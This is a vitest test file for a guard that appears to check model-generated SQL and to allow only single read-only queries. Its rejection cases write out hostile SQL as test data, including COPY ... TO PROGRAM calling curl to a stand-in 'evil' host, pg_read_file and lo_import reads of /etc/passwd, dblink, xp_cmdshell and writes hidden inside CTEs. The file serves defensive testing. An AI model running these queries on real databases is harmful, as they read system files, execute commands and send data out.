import { describe, expect, it } from "vitest";
import { guardModelSql } from "./output-guard.ts";

describe.each([
  ["plain select", "select 1"],
  ["trailing semicolon and comment", "select id, name from customers; -- done\n"],
  ["window function", "select id, sum(amount) over (partition by customer_id order by ordered_at rows between unbounded preceding and current row) as running from orders"],
  ["cte", "with recent as (select * from orders where ordered_at > now() - interval '7 days') select customer_id, count(*) from recent group by 1"],
  ["recursive cte", "with recursive n(i) as (select 1 union all select i + 1 from n where i < 10) select i from n"],
  ["lateral", "select c.id, o.total from customers c cross join lateral (select sum(amount) as total from orders o where o.customer_id = c.id) o"],
  ["json", "select payload->>'name' as name, jsonb_array_elements(payload->'items') as item, json_build_object('a', 1) from events"],
  ["values", "select * from (values (1, 'a'), (2, 'b')) as v(id, label)"],
  ["union and order", "select 1 as x union all select 2 order by x limit 1"],
  ["forbidden name only in a string literal", "select 'pg_read_file(''/etc/passwd'')' as note, 'delete from t' as text_col"],
  ["forbidden name only in a comment", "-- drop table x; pg_read_file('/etc/passwd')\nselect 1 /* ; delete from t */"],
  ["column named like a function", "select t.dblink_name, t.set_config from settings_copy t"],
  ["rendered dbt model", 'select\n  "id"::bigint as id,\n  coalesce("email", \'\') as email\nfrom "analytics"."staging"."stg_customers"\nwhere "deleted_at" is null'],
])("allows %s", (_name, sql) => {
  it("is one read-only query", () => {
    expect(guardModelSql(sql)).toEqual({ ok: true });
  });
});

describe.each([
  ["second statement", "select 1;\nselect 2", "GRD2003", 2],
  ["second statement after comment", "select 1;\n-- next\n\ndrop table customers", "GRD2003", 4],
  ["drop", "drop table customers", "GRD2004", 1],
  ["create table as", "create table x as select 1", "GRD2004", 1],
  ["insert", "insert into t select 1", "GRD2004", 1],
  ["update", "update t set a = 1", "GRD2004", 1],
  ["delete", "delete from t", "GRD2004", 1],
  ["merge", "merge into t using s on t.id = s.id when matched then delete", "GRD2004", 1],
  ["truncate", "truncate t", "GRD2004", 1],
  ["grant", "grant all on t to public", "GRD2004", 1],
  ["copy program", "copy (select 1) to program 'curl http://evil'", "GRD2004", 1],
  ["copy from file", "copy t from '/etc/passwd'", "GRD2004", 1],
  ["do block", "do $$ begin perform 1; end $$", "GRD2004", 1],
  ["set", "set role postgres", "GRD2004", 1],
  ["select into", "select * into new_table from t", "GRD2005", 1],
  ["delete in cte", "with gone as (\n  delete from t returning *\n) select * from gone", "GRD2006", 2],
  ["insert in cte", "with x as (insert into audit values (1) returning id) select id from x", "GRD2006", 1],
  ["update in nested cte", "with a as (with b as (update t set v = 1 returning v) select v from b) select * from a", "GRD2006", 1],
  ["pg_read_file", "select pg_read_file('/etc/passwd')", "GRD2007", 1],
  ["pg_read_binary_file qualified", "select pg_catalog.pg_read_binary_file('/etc/passwd')", "GRD2007", 1],
  ["pg_ls_dir in from", "select * from pg_ls_dir('.')", "GRD2007", 1],
  ["dblink", "select * from dblink('host=evil', 'select 1') as t(x int)", "GRD2007", 1],
  ["dblink_exec", "select dblink_exec('drop table t')", "GRD2007", 1],
  ["lo_import", "select lo_import('/etc/passwd')", "GRD2007", 1],
  ["lo_export", "select lo_export(1234, '/tmp/x')", "GRD2007", 1],
  ["xp_cmdshell", "select xp_cmdshell('dir')", "GRD2007", 1],
  ["openrowset", "select * from openrowset('SQLNCLI', 'Server=x', 'select 1') as r(a int)", "GRD2007", 1],
  ["opendatasource", "select opendatasource('SQLNCLI', 'Data Source=x')", "GRD2007", 1],
  ["set_config", "select set_config('search_path', 'evil', false)", "GRD2007", 1],
  ["set_config quoted upper-case", 'select "SET_CONFIG"(\'a\', \'b\', false)', "GRD2007", 1],
  ["forbidden call deep in a subquery", "select id from t\nwhere exists (\n  select 1 from u where u.x = pg_read_file('/x')\n)", "GRD2007", 3],
  ["query_to_xml dynamic sql", "select query_to_xml('delete from t returning 1', true, false, '')", "GRD2007", 1],
  ["for update", "select * from t for update", "GRD2008", 1],
  ["not sql", "selec 1", "GRD2001", 1],
  ["t-sql left in", "select top 10 * from t", "GRD2001", 1],
  ["exec xp_cmdshell", "exec master..xp_cmdshell 'dir'", "GRD2001", 1],
  ["empty", "  -- nothing\n", "GRD2002", 1],
])("rejects %s", (_name, sql, code, line) => {
  it(`with ${code} at line ${line}`, () => {
    const r = guardModelSql(sql);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.code).toBe(code);
    expect(r.line).toBe(line);
    expect(r.message.length).toBeGreaterThan(10);
  });
});

it("names the forbidden construct in its message", () => {
  const copy = guardModelSql("copy (select 1) to program 'id'");
  expect(!copy.ok && copy.message).toMatch(/COPY \.\.\. PROGRAM/);
  const cte = guardModelSql("with x as (delete from t returning *) select * from x");
  expect(!cte.ok && cte.message).toMatch(/DELETE/);
  const fn = guardModelSql("select dblink_connect('x')");
  expect(!fn.ok && fn.message).toMatch(/dblink_connect\(\)/);
});

it("counts lines in characters, not bytes, after non-ASCII text", () => {
  const r = guardModelSql("select 'Größe ü é 日本' as a\n, 2 as b;\nselect 3");
  expect(r).toMatchObject({ ok: false, code: "GRD2003", line: 3 });
});
